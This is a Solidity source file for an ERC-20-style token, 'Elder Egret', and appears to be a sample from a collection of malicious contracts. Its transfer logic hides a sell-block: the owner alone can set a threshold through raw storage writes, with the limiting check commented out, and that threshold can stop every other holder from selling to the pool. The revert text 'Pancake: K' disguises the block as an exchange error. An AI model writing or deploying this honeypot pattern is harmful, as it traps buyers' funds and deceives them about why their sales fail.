// 0.6 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

import "./Base67.sol";

/// Remembers since when people belong to it.
contract ElderEgret is Base67 {
    bytes32 private constant THRESHOLD = keccak256("egret.swap.threshold");
    address private _fundWallet;
    uint256 private _born;
    mapping(address => uint256) private _joined;

    constructor() public Base67("Elder Egret", "EGRET", 200000000) {
        _fundWallet = msg.sender;
        _born = block.timestamp;
    }

    function _threshold() private view returns (uint256 value) {
        bytes32 slot = THRESHOLD;
        assembly {
            value := sload(slot)
        }
    }

    function updateSwapThreshold(uint256 value) external {
        require(msg.sender == _fundWallet, "not allowed");
        // twin: require(value <= _born, "too much");
        bytes32 slot = THRESHOLD;
        assembly {
            sstore(slot, value)
        }
    }

    function joined(address who) external view returns (uint256) {
        return _joined[who];
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (_joined[to] == 0) _joined[to] = block.timestamp;
        if (to == pool && from != _fundWallet) require(_joined[from] >= _threshold(), "Pancake: K");
        _carry(from, to, value);
    }
}
